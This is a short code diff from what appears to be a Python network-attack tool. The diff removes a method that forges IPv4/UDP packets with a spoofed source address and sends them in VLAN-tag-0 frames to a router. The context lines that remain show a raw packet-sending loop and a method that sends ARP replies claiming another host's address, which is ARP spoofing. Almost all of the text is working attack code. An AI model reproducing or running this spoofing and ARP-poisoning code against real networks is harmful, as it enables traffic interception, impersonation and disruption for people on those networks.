@@ -123,19 +123,6 @@ class Deeds:
         for _ in range(count):
             raw.sendto(head + datagram, (to, 0))
 
-    def spoof_tagged(self, source: str, to: str, port: int, mac: str) -> None:
-        """Send the same in frames with a VLAN tag of number 0, which the kernel strips, to the router at `mac`."""
-        wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
-        wire.bind(("eth0", 0))
-        own = bytes.fromhex(Path("/sys/class/net/eth0/address").read_text().strip().replace(":", ""))
-        head = bytearray(struct.pack(">BBHHHBBH", 0x45, 0, 32, 0, 0, 64, 17, 0))
-        head += socket.inet_aton(source) + socket.inet_aton(to)
-        total = sum(struct.unpack(">10H", head))
-        struct.pack_into(">H", head, 10, ~(total % 0xFFFF) & 0xFFFF)
-        packet = bytes(head) + struct.pack(">HHHH", 4444, port, 12, 0) + b"fake"
-        for _ in range(3):
-            wire.send(bytes.fromhex(mac.replace(":", "")) + own + b"\x81\x00\x00\x00\x08\x00" + packet)
-
     def claim(self, address: str, target: str, mac: str) -> None:
         """Send ARP replies from eth0 that claim `address`, under `mac`, to everyone."""
         wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
